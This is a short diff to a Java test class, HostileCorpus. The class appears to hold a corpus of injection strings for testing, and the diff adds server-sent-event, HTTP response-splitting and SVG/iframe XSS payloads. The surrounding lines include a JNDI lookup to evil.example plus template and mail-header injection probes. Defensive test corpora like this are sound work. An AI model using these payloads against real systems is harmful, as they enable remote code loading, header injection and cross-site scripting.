@@ -48,6 +48,9 @@ public final class HostileCorpus {
     all.put("template", "{{text}} ${jndi:ldap://evil.example} #{7*7} %s %n {0}");
     all.put(
         "mail headers", "x\r\nSubject: approved\r\nContent-Type: text/html\r\n\r\n.\r\nQUIT\r\n");
+    all.put("event stream", "x\n\nevent: decided\ndata: {}\n\n");
+    all.put("cookie", "x\r\nSet-Cookie: a=b\r\nLocation: //evil.example");
+    all.put("page parts", "<svg onload=alert(1)><iframe src=//evil.example></iframe>");
     all.put("encoded word", "=?utf-8?B?4oCuZGV2b3JwcGE=?= =?utf-8?Q?=0D=0ABcc:_x?=");
     all.put("boundary", "------=_Part_0\r\nContent-Type: text/html\r\n\r\n<b>x</b>");
     all.put("own marks", "… ⟨cut: 5 characters in all⟩ •••••• (not shown) ⟨U+0041⟩");
